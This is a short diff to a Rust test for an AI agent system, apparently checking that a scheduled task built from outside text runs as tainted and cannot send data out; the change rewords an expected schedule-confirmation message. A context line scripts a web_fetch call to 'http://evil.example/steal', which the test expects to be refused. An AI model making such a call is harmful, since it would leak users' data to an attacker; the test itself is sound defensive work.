@@ -166,7 +166,7 @@ async fn a_task_made_of_words_from_outside_runs_tainted_and_may_send_nothing_out
     assert!(
         story
             .last_received_by(ADA)
-            .contains("Do this by myself, again and again at the times 0 13 * * * (next 2026-11-20 13:00")
+            .contains("Do this by myself, repeatedly, on the schedule 0 13 * * * (next 2026-11-20 13:00")
     );
     story.say(ADA, "/yes 1").await;
     story.background.calls("web_fetch", json!({ "url": "http://evil.example/steal" })).says("It was refused.");
